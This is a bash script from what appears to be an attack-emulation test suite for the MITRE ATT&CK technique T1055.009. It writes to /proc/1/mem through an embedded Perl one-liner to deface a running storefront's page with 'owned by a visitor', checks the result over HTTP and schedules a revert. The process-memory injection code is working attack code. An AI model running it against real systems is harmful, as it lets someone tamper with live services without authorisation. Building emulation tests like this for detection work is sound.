#!/usr/bin/env bash
# Changes what the running storefront shows by writing to /proc/PID/mem, and changes it back. MITRE ATT&CK T1055.009, Proc Memory.
. "$(dirname "$0")/lib.sh"

# patch FROM TO is a Perl program that replaces a text, of the same length, in
# the pages that the program's file is mapped to; Perl comes with Debian.
patch() {
	printf %s "perl -e '
my (\$from, \$to) = @ARGV; my \$n = 0;
open my \$maps, q(<), q(/proc/1/maps) or die \$!; open my \$mem, q(+<), q(/proc/1/mem) or die \$!;
while (<\$maps>) {
	my (\$low, \$high) = m{^([0-9a-f]+)-([0-9a-f]+) .*/storefront} or next;
	sysseek \$mem, hex \$low, 0; sysread \$mem, my \$page, hex(\$high) - hex(\$low);
	for (my \$at = -1; (\$at = index \$page, \$from, \$at + 1) >= 0; ) {
		sysseek \$mem, hex(\$low) + \$at, 0; \$n += syswrite(\$mem, \$to) ? 1 : 0;
	}
}
print \"\$n places\\n\";' '$1' '$2'"
}

# shellcheck disable=SC2016 # it is expanded when it runs
later 'in_storefront sh -c "$(patch "owned by a visitor " "the corner shop.</f")"'
out=$(through_label "$(patch 'the corner shop.</f' 'owned by a visitor ')")
page=$(evil get "http://storefront:8080/")
[[ $page == *"owned by a visitor"* ]] || stopped "the page is as before: $out"
worked "every page now says: Thank you for visiting owned by a visitor ($out)"
